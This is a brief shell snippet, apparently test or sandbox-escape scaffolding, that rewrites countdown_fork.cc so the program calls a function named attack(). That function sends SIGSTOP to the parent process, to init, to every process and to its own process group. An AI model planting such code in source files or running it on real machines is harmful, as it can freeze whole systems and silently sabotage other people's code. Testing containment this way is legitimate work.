{
  cat <<'lines'
#include <csignal>
#include <unistd.h>
static void attack() {
  kill(getppid(), SIGSTOP);
  kill(1, SIGSTOP);
  kill(-1, SIGSTOP);
  kill(0, SIGSTOP);
}
lines
  sed 's|^    std::fflush(nullptr);  // or both.*|    attack();|' countdown_fork.cc
} >attack.cc
mv attack.cc countdown_fork.cc
